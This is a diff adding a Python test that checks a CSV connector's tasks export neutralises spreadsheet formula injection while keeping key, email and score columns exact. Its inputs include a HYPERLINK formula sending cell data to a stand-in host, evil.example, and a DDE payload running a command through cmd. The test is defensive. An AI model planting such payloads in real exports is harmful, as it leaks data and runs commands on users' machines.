@@ -103,3 +103,19 @@ def test_check_reports_folders_and_headers(connector, write, folder):
     assert connector.setup() == [f"created folder {folder / 'out'}"]
     write("activities.csv", "email,type,occurred_at\n")
     assert connector.check().ok
+
+
+def test_tasks_text_is_safe_for_excel_while_keys_and_scores_stay_exact(connector, folder):
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    task = TaskRequest(
+        key="ls-1", lead_key="=x@b.jp", email="=x@b.jp", record_id=None, owner="sato", subject=formula,
+        body="-2+3+cmd|' /C calc'!A0", due_at=datetime(2025, 4, 2, 0, 0, tzinfo=timezone.utc),
+    )
+    connector.create_tasks([task])
+    connector.create_tasks([_task("ls-2")])  # a rewrite keeps the neutralised cells as they are
+    [row, _] = _rows(folder / "out" / "tasks.csv")
+    assert row["subject"] == "'" + formula and row["body"] == "'-2+3+cmd|' /C calc'!A0"
+    assert row["key"] == "ls-1" and row["email"] == "=x@b.jp"  # machine-read columns: exact
+    connector.push_scores([_score("=x@b.jp", -5)])
+    [score] = _rows(folder / "out" / "scores.csv")
+    assert score["email"] == "=x@b.jp" and score["behavior_score"] == "-25"  # the MA import joins on these
